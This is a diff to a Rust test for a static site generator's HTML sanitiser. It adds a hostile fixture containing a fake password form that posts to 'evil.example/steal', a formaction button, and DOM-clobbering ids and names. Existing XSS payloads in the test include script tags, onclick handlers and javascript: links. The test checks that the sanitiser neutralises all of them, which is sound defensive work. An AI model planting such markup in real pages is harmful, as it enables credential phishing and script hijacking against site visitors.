@@ -14,6 +14,17 @@ const HOSTILE: &[&str] = &[
     "' onmouseover='alert(5)",
 ];
 
+/// Form controls and ids that could clobber globals or the theme's own ids (DOM
+/// clobbering once a page has scripts: live reload, search).
+const FORMS: &str = concat!(
+    "<form action=\"https://evil.example/steal\" method=\"post\">Password: ",
+    "<input type=\"password\" name=\"password\"><input type=\"submit\" value=\"Log in\">",
+    "<input type=\"hidden\" name=\"csrf\" value=\"x\"><button formaction=\"https://evil.example/\">Go</button>",
+    "<select name=\"s\"><option>o</option></select><textarea name=\"t\">t</textarea></form> ",
+    "<img id=\"getElementById\" name=\"cookie\" src=\"x.png\"> <p id=\"main\">x</p> ",
+    "<a id=\"livereload\" href=\"#main\">clobber</a> <form id=\"search\"><input name=\"attributes\"></form>",
+);
+
 /// The attribute names of a tag (outside quoted values).
 fn attribute_names(tag: &str) -> Vec<String> {
     let mut names = Vec::new();
@@ -62,7 +73,7 @@ fn hostile_values_never_reach_the_output_unescaped() {
         site.announcement(
             &format!("h{i}.en.md"),
             &format!(
-                "---\ntitle: \"{h}\"\ndate: 2020-01-{:02}\nsummary: \"{h}\"\ntags: [x{i}]\nextra: {{ note: \"{h}\" }}\naliases: [/old/h{i}/]\n---\nBody {i}: <b onclick=\"alert(6)\">x</b> <script>alert(7)</script> [link](javascript:alert(8)) ![i](data:text/html,x)\n",
+                "---\ntitle: \"{h}\"\ndate: 2020-01-{:02}\nsummary: \"{h}\"\ntags: [x{i}]\nextra: {{ note: \"{h}\" }}\naliases: [/old/h{i}/]\n---\nBody {i}: <b onclick=\"alert(6)\">x</b> <script>alert(7)</script> [link](javascript:alert(8)) ![i](data:text/html,x)\n\n{FORMS}\n",
                 i + 1
             ),
         );
@@ -88,6 +99,12 @@ fn hostile_values_never_reach_the_output_unescaped() {
         // Escaped text may spell `onerror=`; what must never appear is markup: a real tag.
         for tag in tags(&text) {
             for needle in [
+                "<form",
+                "<input",
+                "<button",
+                "<select",
+                "<textarea",
+                "evil.example",
                 "<script",
                 "<img src=x",
                 "<svg",
@@ -98,10 +115,15 @@ fn hostile_values_never_reach_the_output_unescaped() {
             ] {
                 assert!(!tag.contains(needle), "{shown}: tag {tag}");
             }
-            let has_handler = attribute_names(tag)
-                .iter()
-                .any(|name| name.starts_with("on"));
+            let names = attribute_names(tag);
+            let has_handler = names.iter().any(|name| name.starts_with("on"));
             assert!(!has_handler, "{shown}: event handler in {tag}");
+            if !tag.starts_with("<meta") {
+                assert!(!names.iter().any(|n| n == "name"), "{shown}: name in {tag}");
+            }
+            for id in ["getelementbyid", "livereload", "search"] {
+                assert!(!tag.contains(&format!("id=\"{id}\"")), "{shown}: {tag}");
+            }
         }
         assert!(!text.contains('\u{0}'), "{shown}: contains a NUL byte");
         if path.extension().is_some_and(|e| e == "xml") {
@@ -118,6 +140,17 @@ fn hostile_values_never_reach_the_output_unescaped() {
     // but titles are isolated so it cannot reorder the surrounding interface.
     let page = site.output("en/announcements/h4/index.html");
     assert!(page.contains("\u{202E}evil\u{202C}"));
+    // The writer's ids are kept, prefixed as GitHub does, and their in-page links follow.
+    for part in [
+        r#"<img id="user-content-getElementById" src="x.png">"#,
+        r#"<p id="user-content-main">x</p>"#,
+        r##"<a id="user-content-livereload" href="#user-content-main">clobber</a>"##,
+        "Password: Go",
+    ] {
+        assert!(page.contains(part), "{part}: {page}");
+    }
+    // The theme's own `id="main"` stays the only one.
+    assert_eq!(page.matches(r#"id="main""#).count(), 1, "{page}");
 }
 
 /// NUL and other control characters in a title or summary are refused with their position.
